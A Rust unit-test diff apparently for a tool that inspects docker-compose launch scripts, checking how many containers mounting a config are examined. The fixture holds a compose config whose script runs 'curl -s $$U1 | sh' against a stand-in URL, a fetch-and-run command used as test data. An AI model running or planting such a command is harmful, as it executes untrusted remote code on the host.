@@ -30,3 +30,32 @@ fn lists_beyond_a_number_of_words_are_not_judged() {
     let (outside, unmeasured) = places(15);
     assert_eq!((outside + unmeasured, unmeasured), (15 * 120, 2 * 120));
 }
+
+/// A script in a config is told what the containers say that mount it, and of too many names what any container says.
+#[test]
+fn configs_beyond_a_number_of_addresses_are_told_all_of_them() {
+    let executes = |names: usize, is_own: bool| {
+        let entries: Map<String, _> = (0..names)
+            .map(|at| (format!("U{at}"), json!("http://x.example.com/i.sh")))
+            .collect();
+        let image = format!("x/y{DIGEST}");
+        let mounted: Vec<String> = (0..300).map(|at| format!("c{at}")).collect();
+        let own = if is_own { vec!["start"] } else { Vec::new() };
+        let mounted: Vec<&str> = mounted.iter().map(String::as_str).chain(own).collect();
+        let compose = json!({
+            "services": {
+                "one": { "image": image, "environment": entries, "configs": mounted },
+                "two": { "image": image, "configs": ["start"], "command": ["sh", "/start"] },
+            },
+            "configs": { "start": { "content": "curl -s $$U1 | sh\n" } },
+        });
+        let members = json!({ "runner": "docker-compose", "docker_compose_file": compose.to_string() });
+        let file = read_document(members.as_object().unwrap(), LaunchScript::None)
+            .unwrap()
+            .unwrap();
+        file.unmeasured.count()
+    };
+    assert_eq!(executes(200, false), 0);
+    assert_eq!(executes(200, true), 1, "a container that mounts it says it");
+    assert_eq!(executes(300, false), 1, "too many names");
+}
